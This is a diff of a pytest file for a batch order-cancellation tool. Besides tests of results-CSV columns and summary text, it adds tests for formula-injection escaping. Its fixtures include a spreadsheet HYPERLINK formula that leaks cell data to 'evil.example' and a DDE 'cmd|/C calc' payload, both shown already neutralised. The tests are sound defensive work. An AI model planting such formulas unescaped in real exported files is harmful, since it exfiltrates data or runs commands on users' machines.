@@ -3,17 +3,21 @@
 from __future__ import annotations
 
 import csv
+import json
 from collections import Counter
 from pathlib import Path
 
 import pytest
 
+from batch_cancel.client import parse_error
 from batch_cancel.config import default_results_path
-from batch_cancel.models import LoadedRow, LocalCode, Outcome, RowResult
-from batch_cancel.report import ResultsWriter, format_summary
-from batch_cancel.schema import RESULT_COLUMNS
+from batch_cancel.job import FileReport, JobReport, format_summary
+from batch_cancel.models import ExitStatus, LoadedRow, LocalCode, Outcome, RowResult
+from batch_cancel.report import ResultsWriter
+from batch_cancel.runner import RunEnd
+from batch_cancel.schema import WRITTEN_COLUMNS, safe_cell
 
-from .helpers import read_results
+from .helpers import CORPUS, main_in_process, read_results, use_cli_env
 
 HEADER = ["order_no", "warehouse_id", "cancel_reason"]
 
@@ -75,14 +79,16 @@ def test_cells_echoed_unchanged_and_result_columns_appended(out: Path) -> None:
         writer.add(loaded(2, "ORD-2", "WH", "r"), rejected)
     assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
     assert raw_rows(out) == [
-        [*HEADER, *RESULT_COLUMNS],
+        [*HEADER, *WRITTEN_COLUMNS],
         [
             *("  000123 ", "NA", 'say "hi", then\nleave'),
             *("1", "cancelled", "200", "", "", "1", "req-1", "2026-11-26T23:00:00.000Z"),
+            *("", "", ""),  # nothing recorded as sent: the test's rows carry no request
         ],
         [
             *("ORD-2", "WH", "r"),
             *("2", "rejected", "400", "810", "Invalid Input, please validate", "1", "", ""),
+            *("", "", ""),
         ],
     ]
 
@@ -98,7 +104,7 @@ def test_results_file_as_input_replaces_old_result_columns(out: Path) -> None:
     with ResultsWriter(out, header) as writer:
         writer.add(loaded(1, "ORD-1", "7", "failed", "WH", "gave up"), cancelled(1))
     [written_header, written] = raw_rows(out)
-    assert written_header == ["order_no", "warehouse_id", *RESULT_COLUMNS]
+    assert written_header == ["order_no", "warehouse_id", *WRITTEN_COLUMNS]
     assert written[:5] == ["ORD-1", "WH", "1", "cancelled", "200"]
     assert "failed" not in written
     assert "gave up" not in written
@@ -144,13 +150,35 @@ def test_default_results_path(input_path: str, expected: str) -> None:
     assert default_results_path(Path(input_path)) == Path(expected)
 
 
-def test_format_summary_lists_counts_and_path() -> None:
-    counts = Counter({Outcome.INVALID: 2, Outcome.CANCELLED: 1234, Outcome.REJECTED: 1})
-    text = format_summary(
-        counts, Path("/data/orders.results.csv"), elapsed_s=12.34, headline="batch-cancel: done"
+def job_report(*files: tuple[str, Counter[Outcome]], **reasons: int) -> JobReport:
+    reports = tuple(
+        FileReport(
+            input_path=Path(name),
+            results_path=Path(name).with_suffix(".results.csv"),
+            source="shopee" if name.endswith(".xlsx") else "",
+            counts=counts,
+            notes=(),
+        )
+        for name, counts in files
     )
+    return JobReport(
+        counts=sum((counts for _, counts in files), Counter()),
+        exit_status=ExitStatus.ROWS_NEED_ATTENTION,
+        headline="batch-cancel: done",
+        files=reports,
+        run_id=1,
+        elapsed_s=12.34,
+        end=RunEnd(stop_reason=None),
+        reasons=Counter({(Outcome.REJECTED, reason): n for reason, n in reasons.items()}),
+    )
+
+
+def test_format_summary_says_why_then_counts_then_where() -> None:
+    counts = Counter({Outcome.INVALID: 2, Outcome.CANCELLED: 1234, Outcome.REJECTED: 1})
+    text = format_summary(job_report(("/data/orders.csv", counts), **{"with code 9001": 1}))
     assert text.splitlines() == [
         "batch-cancel: done",
+        "  3 rows need attention: 2 invalid, 1 rejected with code 9001.",
         "  rows: 1237 in 12.3s",
         "  cancelled     1234",
         "  rejected         1  <- needs attention",
@@ -159,10 +187,117 @@ def test_format_summary_lists_counts_and_path() -> None:
     ]
 
 
-def test_format_summary_without_results_path() -> None:
-    text = format_summary(Counter({Outcome.NOT_SENT: 3}), None, elapsed_s=0, headline="stopped")
-    assert text.splitlines() == [
-        "stopped",
-        "  rows: 3 in 0.0s",
-        "  not_sent         3  <- needs attention",
+def test_format_summary_of_a_night_has_a_section_per_file() -> None:
+    text = format_summary(
+        job_report(
+            ("/in/tkp.csv", Counter({Outcome.CANCELLED: 3})),
+            ("/in/shopee.xlsx", Counter({Outcome.CANCELLED: 1, Outcome.DUPLICATE: 1})),
+        )
+    )
+    assert text.splitlines()[-5:] == [
+        "  files: 2",
+        "    /in/tkp.csv: cancelled 3",
+        "      results: /in/tkp.results.csv",
+        "    [shopee] /in/shopee.xlsx: cancelled 1, duplicate 1",
+        "      results: /in/shopee.results.csv",
     ]
+
+
+# --- formula-safe cells: what a spreadsheet would run is written as text -------------------
+
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+def test_safe_cell_neutralises_formula_triggers(trigger: str) -> None:
+    assert safe_cell(f"{trigger}1+1") == f"'{trigger}1+1"
+
+
+@pytest.mark.parametrize("value", ["", "ORD-1", "1+1", " =1", "'x=1", "é", "5-3"])
+def test_safe_cell_leaves_other_text_alone(value: str) -> None:
+    assert safe_cell(value) == value
+
+
+def test_safe_cell_escapes_an_apostrophe_already_in_front_of_a_trigger() -> None:
+    # So that reading a results file back can tell "'=1" typed by someone from "=1".
+    assert safe_cell("'=1") == "''=1"
+
+
+def test_dry_run_results_of_formula_corpus_are_neutralised(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    use_cli_env(monkeypatch, api_key=None)
+    out = tmp_path / "formulas.results.csv"
+    done = main_in_process(capsys, "run", CORPUS / "formulas.csv", "-o", out, "--dry-run")
+    assert done.returncode == ExitStatus.SUCCESS, done.stderr  # a dry run with every row valid
+    header, *rows = raw_rows(out)
+    assert header[:4] == ["order_no", "warehouse_id", "cancel_reason", "'=buyer_note"]
+    notes = [row[3] for row in rows]
+    assert notes == [
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        "'+6281234567890",
+        "'-5",
+        "'@SUM(A1:A9)",
+        "'\t=1+1",
+        "'\r=1+1",
+        "'\uff1d1+1",
+        "'\uff0bcmd",
+        "'\uff0d1",
+        "'\uff20SUM(A1)",
+        "x",
+        "safe",
+    ]
+    assert rows[10][0] == "'=cmd|' /C calc'!A0"  # the order_no column too
+    assert rows[11][2] == "'=1+1"  # and the cancel_reason column
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(tuple(TRIGGERS)), row
+
+
+def test_api_text_is_neutralised_cut_and_one_line(tmp_path: Path) -> None:
+    body = json.dumps(
+        {
+            "metadata": {
+                "errors": [
+                    {"code": "=2+5", "message": '=HYPERLINK("http://x")\r\n\x1b[2J' + "A" * 900}
+                ]
+            }
+        }
+    ).encode()
+    code, message = parse_error(body, "application/json")
+    result = RowResult(
+        source_row=1,
+        status=Outcome.REJECTED,
+        http_status=400,
+        error_code=code,
+        error_message=message,
+        request_id="@evil\x07",
+        attempts=1,
+    )
+    out = tmp_path / "r.csv"
+    with ResultsWriter(out, ["order_no"]) as writer:
+        writer.add(LoadedRow(1, ("ORD-1",), None, None), result)
+    [_, row] = raw_rows(out)
+    written = dict(zip(["order_no", *WRITTEN_COLUMNS], row, strict=True))
+    assert written["result_error_code"] == "'=2+5"
+    assert written["result_error_message"].startswith('\'=HYPERLINK("http://x") [2JAAA')
+    assert len(written["result_error_message"]) <= 301
+    assert written["result_error_message"].isprintable()
+    assert written["result_request_id"] == "'@evil"
+
+
+def test_any_message_reaching_the_writer_is_one_bounded_line(tmp_path: Path) -> None:
+    # e.g. an internal_error row carrying an exception's text
+    result = RowResult(
+        source_row=1,
+        status=Outcome.FAILED,
+        error_code="internal_error",
+        error_message="-boom\nTraceback\x00 " + "x" * 2000,
+    )
+    out = tmp_path / "r.csv"
+    with ResultsWriter(out, ["order_no"]) as writer:
+        writer.add(LoadedRow(1, ("ORD-1",), None, None), result)
+    message = read_results(out)[0]["result_error_message"]
+    assert message.startswith("'-boom Traceback ")
+    assert message.isprintable()
+    assert len(message) <= 501
